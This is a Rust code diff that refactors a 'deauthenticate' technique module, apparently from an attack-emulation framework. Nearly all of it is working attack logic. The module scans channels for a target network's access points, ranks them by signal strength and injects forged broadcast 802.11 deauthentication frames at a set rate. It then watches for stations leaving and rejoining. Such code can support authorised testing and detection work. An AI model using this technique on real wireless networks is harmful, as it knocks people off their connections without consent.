@@ -1,16 +1,43 @@
 //! Sends stations away from their access points with forged frames.
 
-use super::listen_radio::{ask_networks, note};
-use super::{Params, Progress, Step, Technique};
-use crate::catalog::{Entry, Parameter, ParameterKind};
+use super::craft::radio::{DWELL, Scan, forged, ssid};
+use super::{Progress, Technique};
+use crate::catalog::Entry;
+use crate::parameters::{Network, Parameters};
 use crate::net::port::Input;
 use crate::time::Duration;
 use crate::wire::Mac;
-use crate::wire::dot11::{Dot11, Dot11Body};
+use crate::wire::dot11::Dot11Body;
 
 /// Technique `deauthenticate`.
 #[derive(Debug)]
 pub(super) struct Deauthenticate;
+
+/// What a step gives to it.
+#[derive(Clone, Debug, Parameters)]
+pub(super) struct Params {
+    /// Network; all that it can hear if not given.
+    network: Option<Network>,
+    /// How many access points, strongest first, a network at an access point counting as one; all if not given.
+    #[param(range = 1..=1000)]
+    access_points: Option<u32>,
+    /// Frames, over all access points.
+    #[param(default = 10, range = 0.001..=10000, unit = "per second")]
+    rate_per_second: f64,
+    /// How long.
+    #[param(key = "for", default = "5m")]
+    span: Duration,
+}
+
+/// What an attempt remembers.
+#[derive(Clone, Debug, Default)]
+pub(super) struct State {
+    scan: Scan,
+    /// Frames that it has sent.
+    sent: u32,
+}
+
+type Step<'s, 'a, 'c> = super::Step<'s, 'a, 'c, Deauthenticate>;
 
 static ENTRY: Entry = Entry {
     id: "deauthenticate",
@@ -19,122 +46,66 @@ static ENTRY: Entry = Entry {
               after access point. A station that does not ask for protected management frames leaves and joins again. Succeeds if stations were heard \
               to join again. It first asks on each channel which networks there are, unless it knows. A sensor on the channel sees frames from an \
               access point that the access point did not send.",
-    parameters: &[
-        Parameter {
-            name: "network",
-            kind: ParameterKind::Network,
-            required: false,
-            doc: "network; all that it can hear if not given",
-        },
-        Parameter {
-            name: "access_points",
-            kind: ParameterKind::Integer,
-            required: false,
-            doc: "how many of them, strongest first, a network at an access point counting as one; all if not given",
-        },
-        Parameter {
-            name: "rate_per_second",
-            kind: ParameterKind::Number,
-            required: false,
-            doc: "frames per second, over all access points; 10 if not given",
-        },
-        Parameter {
-            name: "for",
-            kind: ParameterKind::Duration,
-            required: false,
-            doc: "how long; 5m if not given",
-        },
-    ],
+    parameters: Params::PARAMETERS,
+    relations: Params::RELATIONS,
     references: &["T1498.001", "T0814", "domain notes 3.5"],
 };
 
-const DWELL: Duration = Duration::from_millis(50);
 const TOKEN_LOOK: u32 = 1;
 const TOKEN_SEND: u32 = 2;
 const TOKEN_END: u32 = 3;
-const CHANNELS: u32 = 13;
-/// Class 3 frame from a station that is not associated.
-const REASON: u16 = 7;
 
-fn over(params: &Params) -> Duration {
-    params.duration("for").unwrap_or(Duration::from_mins(5))
-}
-
-/// A frame that tells everybody to leave this access point.
-pub(super) fn forged(bssid: Mac) -> Dot11 {
-    Dot11 {
-        ta: bssid,
-        ra: Mac::BROADCAST,
-        bssid,
-        body: Dot11Body::Deauthentication {
-            reason: REASON,
-            mic: None,
-        },
-    }
+/// Whether it knows a network to send in the name of.
+fn knows(step: &Step<'_, '_, '_>) -> bool {
+    let mut named = step.knowledge.radio.named(ssid(step.params.network.as_ref()));
+    named.next().is_some()
 }
 
 /// Looks on the next channel, or begins to send.
 fn look(step: &mut Step<'_, '_, '_>) -> Progress {
-    step.state.tries += 1;
-    if step.state.tries <= CHANNELS {
-        ask_networks(step, step.state.tries as u8);
+    if let Some(channel) = step.state.scan.next() {
+        step.ask_networks(channel);
         step.hands.timer(DWELL, TOKEN_LOOK);
         return Progress::Wait;
     }
-    if step
-        .knowledge
-        .radio
-        .named(step.params.text("network"))
-        .next()
-        .is_none()
-    {
+    if !knows(step) {
         return Progress::Failed("no such network on the air");
     }
-    step.state.tries = 0;
-    step.hands.timer(over(step.params), TOKEN_END);
+    step.hands.timer(step.params.span, TOKEN_END);
     send(step);
     Progress::Reached(1)
 }
 
 fn send(step: &mut Step<'_, '_, '_>) {
-    let rate = step.params.factor("rate_per_second").unwrap_or(10.0);
-    let named = step.knowledge.radio.named(step.params.text("network"));
+    let named = step.knowledge.radio.named(ssid(step.params.network.as_ref()));
     let mut targets: Vec<(i8, Mac, u8)> = named.map(|n| (n.dbm, n.bssid, n.channel)).collect();
     targets.sort_by_key(|t| (-i16::from(t.0), t.1));
-    let most = step.params.integer("access_points").unwrap_or(i64::MAX);
-    targets.truncate(usize::try_from(most.max(1)).unwrap_or(usize::MAX));
-    let (_, bssid, channel) = targets[step.state.tries as usize % targets.len()];
-    step.state.tries += 1;
+    if let Some(most) = step.params.access_points {
+        targets.truncate(most as usize);
+    }
+    let (_, bssid, channel) = targets[step.state.sent as usize % targets.len()];
+    step.state.sent += 1;
     step.hands.monitor(channel);
     step.hands.inject(forged(bssid));
-    let pause = Duration::from_secs_f64(1.0 / rate.clamp(0.001, 10_000.0));
+    let pause = Duration::from_secs_f64(1.0 / step.params.rate_per_second);
     step.hands.timer(pause, TOKEN_SEND);
 }
 
 impl Technique for Deauthenticate {
-    fn entry(&self) -> &'static Entry {
-        &ENTRY
+    type Params = Params;
+    type State = State;
+    const ENTRY: &'static Entry = &ENTRY;
+    const STAGES: &'static [&'static str] = &["look", "send", "stations leave"];
+
+    fn patience(params: &Params) -> Duration {
+        params.span + Duration::from_mins(1)
     }
 
-    fn stages(&self) -> &'static [&'static str] {
-        &["look", "send", "stations leave"]
-    }
-
-    fn patience(&self, params: &Params) -> Duration {
-        over(params) + Duration::from_mins(1)
-    }
-
-    fn act(&self, step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
+    fn act(step: &mut Step<'_, '_, '_>, input: &Input) -> Progress {
         match input {
             Input::Begin => {
-                if step
-                    .knowledge
-                    .radio
-                    .named(step.params.text("network"))
-                    .next()
-                    .is_some()
-                {
-                    step.state.tries = CHANNELS;
+                if knows(step) {
+                    step.state.scan = Scan::OVER;
                 }
                 look(step)
             }
@@ -145,19 +116,19 @@ impl Technique for Deauthenticate {
             }
             Input::Timer(TOKEN_END) => {
                 step.hands.stop_monitoring();
-                if step.state.stage >= 2 {
+                if step.stage >= 2 {
                     Progress::Done("stations left and joined again")
                 } else {
                     Progress::Failed("no station left")
                 }
             }
             Input::Overheard(heard) => {
-                note(step, heard);
+                step.note(heard);
                 let joins = matches!(
                     heard.frame.body,
                     Dot11Body::Authentication { sequence: 1, .. }
                 );
-                if joins && step.state.stage == 1 {
+                if joins && step.stage == 1 {
                     step.hands.learned("that stations leave");
                     return Progress::Reached(2);
                 }
